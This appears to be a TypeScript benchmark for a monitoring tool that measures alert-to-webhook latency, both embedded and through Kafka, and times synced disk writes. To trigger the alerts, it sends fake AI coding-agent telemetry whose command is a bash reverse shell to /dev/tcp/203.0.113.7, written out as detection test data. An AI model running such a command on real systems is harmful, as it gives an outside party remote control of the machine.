/** From the sending of an alerting act to its webhook, in real processes under a modest load: embedded, and through Kafka. */
import { open } from 'node:fs/promises';
import { Agent } from 'node:http';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { claudeCode } from '../../cli/demo/tell';
import { markOf } from '../support/acts';
import { createExporter } from '../support/exporter';
import { newDataFolder, startGander } from '../support/gander-process';
import type { GanderProcess } from '../support/gander-process';
import { startKafka, whyNoKafka } from '../support/kafka/start-kafka';
import { SECRET, startWebhookReceiver } from '../support/webhook-receiver';
import { NotHere } from './figure';
import type { Bench, Figure } from './figure';
import { quantile } from './measure';
import { post } from './sender';
import { standardLoad } from './standard-load';

const SAMPLES = 300;
const WARM_UP = 60;
const EVERY_MS = 50;
const BACKGROUND = 10;
const LATE_MS = 60_000;

/** Roles of each process; of one process undefined: all. */
const TOGETHER = [undefined] as const;
const APART = [['collector'], ['engine'], ['alerts', 'archive', 'console']] as const;

async function measure(brokers?: readonly string[]): Promise<Figure[]> {
  const hook = await startWebhookReceiver();
  const { folder, remove } = newDataFolder();
  const processes: GanderProcess[] = [];
  try {
    const webhooks = [{ name: 'bench', url: hook.url, secret: SECRET }];
    const stream = brokers && { stream: { driver: 'kafka', kafka: { brokers } } };
    for (const roles of brokers ? APART : TOGETHER)
      processes.push(
        await startGander({ folder, config: { alerts: { webhooks }, ...stream }, ...(roles && { roles }) }),
      );
    const disk = await syncTimes(folder);
    const sent = await act(processes[0]?.otlp ?? '', () => hook.until(1));
    const late = AbortSignal.timeout(LATE_MS);
    while (hook.received.length < sent.size && !late.aborted) await pause(EVERY_MS);
    const came = new Map(hook.received.map(({ body, at }) => [markOf(body.data), at]));
    const times = [...sent].slice(WARM_UP).map(([mark, at]) => (came.get(mark) ?? Infinity) - at);
    return [...figuresOf(times, brokers ? { p99: 100 } : { p50: 10, p99: 50 }), ...diskFigures(disk)];
  } finally {
    for (const gander of processes) await gander.kill();
    await hook.close();
    remove();
  }
}

/** Tells an act and some of the standard load every 50 ms; when each act was sent, by its mark. Goes on once the first has come through. */
async function act(otlp: string, first: () => Promise<void>): Promise<Map<string, number>> {
  const tell = claudeCode();
  const exporter = createExporter(() => otlp);
  const agent = new Agent({ keepAlive: true });
  const load = Array.from({ length: SAMPLES + WARM_UP }, (_, seed) => gzipSync(standardLoad(BACKGROUND, seed + 1)));
  const sent = new Map<string, number>();
  const requests: Promise<unknown>[] = [];
  for (const [index, body] of load.entries()) {
    const start = performance.now();
    const port = 10_000 + index;
    const message = tell({ command: `bash -i >& /dev/tcp/203.0.113.7/${port} 0>&1`, ok: true });
    sent.set(`203.0.113.7:${port}`, Date.now());
    requests.push(exporter.send(message), post(`${otlp}/v1/traces`, body, agent));
    if (index === 0) await first();
    await pause(Math.max(0, EVERY_MS - (performance.now() - start)));
  }
  await Promise.all(requests);
  agent.destroy();
  return sent;
}

function figuresOf(times: readonly number[], goals: { p50?: number; p99: number }): Figure[] {
  const figure = (share: number, goal: number | undefined): Figure => ({
    what: `p${share * 100}`,
    value: quantile(times, share),
    unit: 'ms',
    ...(goal !== undefined && { goal: { atMost: goal } }),
  });
  const lost = times.filter((time) => time === Infinity).length;
  return [
    figure(0.5, goals.p50),
    figure(0.99, goals.p99),
    { what: 'longest', value: Math.max(...times), unit: 'ms', note: `${times.length} acts, ${lost} never came` },
  ];
}

const SYNCS = 200;

/** Milliseconds of a synced write of 4 KB each, in the folder: what the disk alone takes of each durable step, three of them to a webhook. */
async function syncTimes(folder: string): Promise<number[]> {
  const file = await open(join(folder, 'sync'), 'w');
  const times: number[] = [];
  for (let n = 0; n < SYNCS; n += 1) {
    const start = performance.now();
    await file.write(Buffer.alloc(4_096, n));
    await file.datasync();
    times.push(performance.now() - start);
    await pause(5);
  }
  await file.close();
  return times;
}

const diskFigures = (times: readonly number[]): Figure[] =>
  [0.5, 0.99].map((share) => ({
    what: `  one synced write of 4 KB, p${share * 100}`,
    value: quantile(times, share),
    unit: 'ms',
    note: 'the disk alone; an alert takes three',
  }));

const TITLE = `sending to webhook: an alerting act and ${BACKGROUND} spans every ${EVERY_MS} ms`;

export const latencyBench: Bench = { title: `${TITLE}, embedded`, measure: () => measure() };

export const kafkaLatencyBench: Bench = {
  title: `${TITLE}, through Kafka: collector, engine and alerts apart`,
  async measure() {
    const missing = whyNoKafka(true);
    if (missing !== undefined) throw new NotHere(missing);
    const kafka = await startKafka();
    try {
      return await measure(kafka.brokers);
    } finally {
      await kafka.remove();
    }
  },
};
